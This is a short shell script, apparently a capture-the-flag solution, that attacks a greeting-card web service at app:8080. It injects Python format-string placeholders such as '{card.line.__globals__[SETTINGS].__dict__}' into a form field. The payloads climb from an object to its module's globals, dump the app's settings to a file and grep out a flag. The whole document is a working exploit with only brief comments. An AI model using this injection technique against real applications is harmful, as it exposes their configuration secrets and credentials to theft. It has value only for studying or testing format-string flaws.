#-- a card as it is meant, and one that names too much
card() { curl -s http://app:8080/card -d sender=Ann -d to=Bo --data-urlencode "greeting=$1" | sed -n '/<pre>/,/<\/pre>/p'; }
card 'Dear {card.to}'
card '{card.__class__}'
#-- from a method to the globals of its module
card '{card.line.__globals__}' | head -c 3000
card '{card.line.__globals__[SETTINGS]}'
#-- and to what its settings hold
card '{card.line.__globals__[SETTINGS].__dict__}' | sed 's/&#x27;/"/g' | tee /tmp/settings
grep -o '"valid", "code": "flag{[0-9a-f]*}' /tmp/settings | grep -o 'flag{[0-9a-f]*}'
